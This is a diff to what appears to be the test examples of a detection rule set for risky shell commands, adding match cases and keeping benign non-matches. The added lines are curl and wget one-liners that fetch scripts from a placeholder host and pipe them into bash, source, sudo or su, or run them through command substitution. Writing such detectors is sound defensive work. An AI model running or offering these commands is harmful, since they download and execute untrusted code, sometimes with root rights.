@@ -275,6 +275,11 @@ RULES: tuple[Rule, ...] = (
             "curl -s http://x.example/a.py | python3",
             "curl x.example | tee log | bash -s -- --yes",
             "wget -O - http://x.example/x | perl",
+            "bash < <(curl -s https://x.example/i.sh)",
+            "curl -s https://x.example/i.sh | source /dev/stdin",
+            "curl -s https://x.example/i.sh | sudo -i",
+            "curl -s https://x.example/i.sh | sudo su",
+            "wget -qO- x.example/i | su",
         ),
         non_matches=(
             "curl -s https://api.example/data | jq .",
@@ -295,6 +300,8 @@ RULES: tuple[Rule, ...] = (
             'eval "$(wget -qO- http://x.example/env)"',
             "source <(curl -s https://x.example/x)",
             "python3 <(curl -s https://x.example/x.py)",
+            "$(curl -s https://x.example/cmd)",
+            "`wget -qO- x.example/c`",
         ),
         non_matches=(
             'echo "$(curl -s https://api.example/ip)"',
